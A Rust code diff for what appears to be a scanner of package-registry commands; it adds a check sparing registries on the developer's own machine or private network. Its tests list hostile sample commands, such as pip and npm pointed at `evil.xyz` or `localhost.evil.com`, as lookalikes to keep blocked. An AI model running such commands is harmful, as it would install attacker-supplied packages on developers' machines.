@@ -8,13 +8,20 @@
 //! network's address or top-level domain) in a text that says its index
 //! is the company's own is the reader's employer's, which only the
 //! reader can reach; it warns.
+//!
+//! tune81: a registry on the developer's own machine or private network
+//! (`npm config set registry http://localhost:4873/`, Verdaccio on
+//! `verdaccio.local`, devpi on `devpi.internal`, a `192.168.…` mirror)
+//! serves what the developer published there, so it warns with no text
+//! needed (`on_this_network`). Only the host decides: a public host over
+//! plain HTTP, `localhost.evil.com` or `127.0.0.1.nip.io` stay blocked.
 
 use std::sync::LazyLock;
 
 use regex::Regex;
 
 use crate::lines::Lines;
-use crate::urlhost::host_of;
+use crate::urlhost::{host_of, reroutes};
 
 static URL: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"(?i)\bhttps?://(\S+)").expect("URL regex"));
@@ -55,6 +62,38 @@ fn internal(host: &str) -> bool {
         })
 }
 
+/// Top-level names no public registry can be under: mDNS's `.local`,
+/// the reserved `.internal`, `.localhost`, home routers' `.lan` and
+/// `.home.arpa`.
+const LOCAL_TOP_LEVELS: &[&str] = &["local", "internal", "localhost", "lan", "home.arpa"];
+
+/// Whether every URL on `line` is on this machine or its private network
+/// and nothing on the line routes the request elsewhere.
+pub fn on_this_network(lines: &Lines, line: usize) -> bool {
+    let text = lines.get(line);
+    let mut hosts = URL
+        .captures_iter(text)
+        .map(|url| host_of(url.get(1).map_or("", |m| m.as_str())).to_ascii_lowercase())
+        .peekable();
+    hosts.peek().is_some() && !reroutes(text) && hosts.all(|host| local(&host))
+}
+
+/// `localhost`, a loopback or private address (IPv4, IPv6's `::1` and
+/// `fc00::/7`), or a name under a local top level.
+fn local(host: &str) -> bool {
+    if let Ok(v4) = host.parse::<std::net::Ipv4Addr>() {
+        return v4.is_loopback() || v4.is_private();
+    }
+    if let Ok(v6) = host.parse::<std::net::Ipv6Addr>() {
+        return v6.is_loopback() || (v6.segments()[0] & 0xfe00) == 0xfc00;
+    }
+    host == "localhost"
+        || LOCAL_TOP_LEVELS.iter().any(|top| {
+            host.strip_suffix(top)
+                .is_some_and(|name| name.len() > 1 && name.ends_with('.'))
+        })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -72,6 +111,33 @@ mod tests {
         assert!(judge(text, 1));
         let text = "Our private registry:\nnpm install --registry https://npm.build.corp acme-ui\n";
         assert!(judge(text, 1));
+    }
+
+    #[test]
+    fn a_registry_on_this_machine_or_network_is_the_developers() {
+        for spared in [
+            "npm config set registry http://verdaccio.local:4873/",
+            "npm config set registry http://localhost:4873",
+            "yarn config set registry http://127.0.0.1:4873/",
+            "pnpm config set registry http://[::1]:4873/",
+            "pip install --index-url http://devpi.internal:3141/root/dev/+simple/ x",
+            "pip install -i http://192.168.1.20:8080/simple x",
+            "registry=http://nexus.home.arpa/repository/npm/",
+        ] {
+            assert!(on_this_network(&Lines::new(spared), 0), "{spared}");
+        }
+        for kept in [
+            "npm config set registry http://localhost.evil.com:4873/",
+            "npm config set registry http://127.0.0.1.nip.io/",
+            "npm config set registry http://registry.example.com/",
+            "pip install -i http://45.1.2.3/simple x",
+            "pip install -i http://localhost:3141/simple --extra-index-url https://evil.xyz/simple x",
+            "pip install --proxy http://evil.xyz:8080 -i http://localhost:3141/simple x",
+            "npm config set registry http://internal/",
+            "npm config set registry http://local.example/",
+        ] {
+            assert!(!on_this_network(&Lines::new(kept), 0), "{kept}");
+        }
     }
 
     #[test]
